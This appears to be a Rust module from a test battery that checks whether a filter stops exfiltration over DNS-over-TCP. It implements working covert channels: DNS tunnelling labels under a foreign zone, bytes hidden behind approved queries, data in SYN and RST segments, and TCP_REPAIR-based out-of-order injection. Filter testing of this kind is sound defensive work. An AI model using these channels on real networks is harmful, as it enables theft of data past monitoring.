//! DNS over TCP to the resolver.

use std::{
    io::{self, Read, Write},
    net::TcpStream,
    os::fd::{AsRawFd, RawFd},
    time::Duration,
};

use nix::{errno::Errno, libc};

use crate::lab::{
    battery::{
        Aim, Channel, each,
        field::{Field, Side, ZONE},
        frame::{PSH_ACK, Packet, SYN},
        ledger::Pieces,
    },
    probe::Family,
};

use super::message::{A, AAAA, IN_NAME, Message, PORT, TXT, framed, name, read, wire};

/// A resolver that says nothing for so long is given up.
const PATIENCE: Duration = Duration::from_secs(3);

/// As much as fits a segment.
const SEGMENT: usize = 1000;

/// From it, segments that no socket would send.
const SOURCE_PORT: u16 = 61_445;

const RST: u8 = 0x04;

/// Bytes ahead of their turn.
const AHEAD: u32 = 10_000;

pub(super) const FOREIGN: Channel = Channel {
    name: "dns-tcp",
    how: "labels below a foreign zone, over TCP to the resolver",
    seen_in: "dnscat2, iodine behind a resolver that prefers TCP",
    aim: Aim::Stop,
    carry: |field, pieces| {
        let mut connection = connect(field.side(Family::V6)?)?;
        for (id, piece) in (0..).zip(pieces.of(IN_NAME)) {
            let message = Message::ask(id, &name(&piece, "dns-tcp", ZONE), TXT);
            exchange(&mut connection, &message.framed())?;
        }
        Ok(())
    },
    read: Some(|frame| read(frame, "dns-tcp")),
};

pub(super) const PIPELINED: Channel = Channel {
    name: "dns-tcp-pipelined",
    how: "labels below a foreign zone, behind an approved question in one segment",
    seen_in: "described; filters read the first question of a connection",
    aim: Aim::Stop,
    carry: |field, pieces| {
        let approved = Message::ask(1, &wire(&field.exact()?.name), A).framed();
        let mut connection = connect(field.side(Family::V4)?)?;
        for (id, piece) in (0..).zip(pieces.of(IN_NAME)) {
            let message = Message::ask(id, &name(&piece, "dns-tcp-pipelined", ZONE), TXT);
            exchange(
                &mut connection,
                &[&approved[..], &message.framed()].concat(),
            )?;
            answer(&mut connection)?;
        }
        Ok(())
    },
    read: Some(|frame| read(frame, "dns-tcp-pipelined")),
};

pub(super) const BEHIND: Channel = Channel {
    name: "dns-tcp-behind",
    how: "bytes in a connection to the resolver that belong to no question, behind one that is approved",
    seen_in: "any protocol on the port of DNS: SSH, VPNs",
    aim: Aim::Stop,
    carry: |field, pieces| {
        let approved = Message::ask(1, &wire(&field.exact()?.name), A).framed();
        each(pieces.of(SEGMENT), |piece| {
            let mut connection = connect(field.side(Family::V4)?)?;
            exchange(&mut connection, &approved)?;
            connection.write_all(&piece)
        })
    },
    read: None,
};

pub(super) const SYN_DATA: Channel = Channel {
    name: "dns-tcp-syn",
    how: "data in the first segment of connections to the resolver",
    seen_in: "TCP Fast Open (RFC 7413), hping3 --data",
    aim: Aim::Stop,
    carry: |field, pieces| segments(field, Family::V4, SOURCE_PORT, pieces, |_| (1, 0, SYN)),
    read: None,
};

pub(super) const RESET: Channel = Channel {
    name: "dns-tcp-reset",
    how: "data in resets of connections to the resolver that never were",
    seen_in: "described: resets may say why they come (RFC 9293 section 3.5.3)",
    aim: Aim::Stop,
    carry: |field, pieces| segments(field, Family::V6, SOURCE_PORT, pieces, |_| (1, 1, RST)),
    read: None,
};

pub(super) const OUT_OF_ORDER: Channel = Channel {
    name: "dns-tcp-order",
    how: "segments of an open connection to the resolver that repeat an approved question with other bytes, or come ahead of their turn",
    seen_in: "fragroute, and others that desynchronise who reads along",
    aim: Aim::Stop,
    carry: |field, pieces| {
        let approved = Message::ask(1, &wire(&field.exact()?.name), AAAA).framed();
        let mut connection = connect(field.side(Family::V4)?)?;
        let (first, _) = numbers(&connection)?;
        exchange(&mut connection, &approved)?;
        let (next, acknowledged) = numbers(&connection)?;
        let port = connection.local_addr()?.port();
        segments(field, Family::V4, port, pieces, |index| {
            let sequence = if index % 2 == 0 {
                first
            } else {
                next.wrapping_add(AHEAD)
            };
            (sequence, acknowledged, PSH_ACK)
        })
    },
    read: None,
};

pub(super) fn connect(side: &Side) -> io::Result<TcpStream> {
    let connection = TcpStream::connect_timeout(&(side.resolver()?, PORT).into(), PATIENCE)?;
    connection.set_nodelay(true)?;
    connection.set_read_timeout(Some(PATIENCE))?;
    connection.set_write_timeout(Some(PATIENCE))?;
    Ok(connection)
}

/// Sends what begins with a question, and waits for an answer, so that what comes next
/// has a segment of its own.
fn exchange(connection: &mut TcpStream, bytes: &[u8]) -> io::Result<()> {
    connection.write_all(bytes)?;
    answer(connection)
}

fn answer(connection: &mut TcpStream) -> io::Result<()> {
    // Or a second answer waits until the first is acknowledged, which has time.
    set(connection.as_raw_fd(), libc::TCP_QUICKACK, 1)?;
    let mut length = [0; 2];
    connection.read_exact(&mut length)?;
    let mut message = vec![0; u16::from_be_bytes(length).into()];
    connection.read_exact(&mut message)
}

/// Sends the secret in segments that the kernel has no part in; of each, the numbers
/// and flags.
fn segments(
    field: &Field,
    family: Family,
    port: u16,
    pieces: &Pieces,
    header: impl Fn(usize) -> (u32, u32, u8),
) -> io::Result<()> {
    let side = field.side(family)?;
    let (source, resolver) = ((side.local, port), (side.resolver()?, PORT));
    let wire = field.wire()?;
    each(pieces.of(SEGMENT).enumerate(), |(index, piece)| {
        let (sequence, acknowledged, flags) = header(index);
        let numbers = (sequence, acknowledged);
        let packet = Packet::tcp(source, resolver, numbers, flags, &framed(&piece));
        wire.send(&field.frame(&packet))
    })
}

/// The numbers of the next byte that is sent, and of the next that is awaited.
fn numbers(connection: &TcpStream) -> io::Result<(u32, u32)> {
    let fd = connection.as_raw_fd();
    let set = |option, value| set(fd, option, value);
    let queue = |queue| {
        set(libc::TCP_REPAIR_QUEUE, queue)?;
        let (mut sequence, mut length) = (0_u32, 4);
        // SAFETY: room for a number, and its length.
        let result = unsafe {
            libc::getsockopt(
                fd,
                libc::SOL_TCP,
                libc::TCP_QUEUE_SEQ,
                (&raw mut sequence).cast(),
                &raw mut length,
            )
        };
        Errno::result(result)?;
        io::Result::Ok(sequence)
    };
    const RECEIVING: libc::c_int = 1;
    const SENDING: libc::c_int = 2;
    set(libc::TCP_REPAIR, 1)?;
    let numbers = queue(SENDING).and_then(|sent| Ok((sent, queue(RECEIVING)?)));
    // Without a probe of the other end's window.
    set(libc::TCP_REPAIR, -1)?;
    numbers
}

fn set(fd: RawFd, option: libc::c_int, value: libc::c_int) -> io::Result<()> {
    // SAFETY: a number and its length.
    let result =
        unsafe { libc::setsockopt(fd, libc::SOL_TCP, option, (&raw const value).cast(), 4) };
    Errno::result(result)?;
    Ok(())
}
